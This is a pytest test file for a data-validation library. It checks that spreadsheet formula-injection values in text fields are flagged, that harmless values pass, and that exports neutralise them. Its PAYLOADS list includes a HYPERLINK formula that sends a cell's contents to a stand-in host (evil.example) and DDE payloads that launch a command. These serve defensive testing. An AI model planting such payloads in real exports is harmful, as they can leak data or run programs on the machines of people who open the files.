"""Free text a spreadsheet could run as a formula is a query in the report (FORMULA-001)."""

from __future__ import annotations

import polars as pl
import pytest

from ldp_graph.exports.formats import neutralise
from ldp_graph.specs.model import Severity
from ldp_graph.specs.registry import load_registry
from ldp_graph.validation.engine import validate
from ldp_graph.validation.formulas import (
    FORMULA_RULE,
    starts_like_formula,
    starts_like_formula_expr,
)
from tests.validation.clas_records import TODAY, clean_return

SPEC = load_registry().get("clas")
assert SPEC is not None

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  =1+1",  # after spaces a spreadsheet still reads a formula
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\t=1+1",  # the tab is trimmed, the = that follows is not
]
HARMLESS = ["P1", "-5", "+44", "-1.5e3", "2025-09-01", "a=b", "Smith-Jones"]


def _report(placement_id: str):  # type: ignore[no-untyped-def]
    records = clean_return()
    records["placement"][0]["placement_id"] = placement_id
    return validate(SPEC, records, today=TODAY)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_in_a_text_field_is_a_query_naming_the_field(payload: str) -> None:
    report = _report(payload)

    [issue] = report.issues
    assert issue.rule_id == FORMULA_RULE
    assert issue.severity == Severity.QUERY
    assert (issue.entity, issue.fields, issue.line) == ("placement", ("placement_id",), 1)
    assert issue.value == payload.strip(" \t")
    assert all(w in issue.message for w in ("formula", "spreadsheet", "explain", "remove"))


def test_a_formula_query_does_not_make_the_return_invalid() -> None:
    report = _report("=1+1")

    assert report.valid
    assert (report.error_count, report.query_count) == (0, 1)
    assert [(c.rule_id, c.severity, c.problems) for c in report.counts] == [
        (FORMULA_RULE, Severity.QUERY, 1)
    ]


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_negative_numbers_and_dates_in_a_text_field_are_not_flagged(
    value: str,
) -> None:
    assert _report(value).issues == []


def test_dates_numbers_and_codes_are_judged_by_their_type_and_code_list_only() -> None:
    records = clean_return()
    records["episode"][0]["start_date"] = "=1+1"
    records["child"][0]["sex"] = "@F"

    report = validate(SPEC, records, today=TODAY)

    rules = {(i.rule_id, i.fields) for i in report.issues}
    assert ("CLAS-101", ("start_date",)) in rules
    assert ("CLAS-102", ("sex",)) in rules
    assert all(i.rule_id != FORMULA_RULE for i in report.issues)


def test_every_formula_in_a_column_is_found_with_its_line() -> None:
    records = clean_return()
    base = records["placement"][0]
    records["placement"] = [
        {**base, "placement_id": pid, "start_date": base["start_date"]}
        for pid in ("=A1", "P2", "@A2", "-5")
    ]

    report = validate(SPEC, records, lines={"placement": [10, 11, 12, 13]}, today=TODAY)

    flagged = [(i.line, i.value) for i in report.issues if i.rule_id == FORMULA_RULE]
    assert flagged == [(10, "=A1"), (12, "@A2")]


@pytest.mark.parametrize("value", [*PAYLOADS, *HARMLESS, "", " ", "-", "\n@", "\rx"])
def test_the_vectorised_formula_test_agrees_with_the_one_exports_quote_by(value: str) -> None:
    column = pl.DataFrame({"v": [value]}).select(starts_like_formula_expr(pl.col("v")))

    assert column.item() == starts_like_formula(value)
    assert (neutralise(value) != value) == starts_like_formula(value)
